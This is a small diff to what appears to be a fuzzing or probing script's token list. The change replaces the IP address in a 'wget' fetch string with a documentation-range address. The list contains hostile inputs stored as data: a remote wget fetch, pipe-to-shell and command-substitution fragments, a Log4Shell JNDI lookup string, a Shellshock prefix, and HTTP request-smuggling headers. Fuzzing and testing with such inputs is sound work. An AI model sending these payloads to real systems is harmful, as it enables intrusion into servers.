@@ -36,7 +36,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
 WORDS = [
     b"GET /shell?id HTTP/1.1\r\n\r\n", b"POST / HTTP/1.0\r\nContent-Length: 9\r\n\r\n", b"\r\n", b"\n", b"\0", b"\xff",
     b"\xff\xfa", b"\xff\xf0", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"ff;x\r\n", b"0\r\n\r\n",
-    b"root\r\n", b"wget http://1.2.3.4/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
+    b"root\r\n", b"wget http://192.0.2.9/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
     b"() { :;};", b"exit\n",
 ]  # fmt: skip
 
